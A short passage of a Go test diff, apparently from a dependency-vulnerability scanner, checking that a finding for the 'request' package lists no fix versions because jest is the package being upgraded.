+		case "request":
+			if len(finding.fixVersions) != 0 {
+				t.Errorf("request fixVersions = %v, expected none since jest is what's upgraded", finding.fixVersions)
+			}
+		}
+	}
+}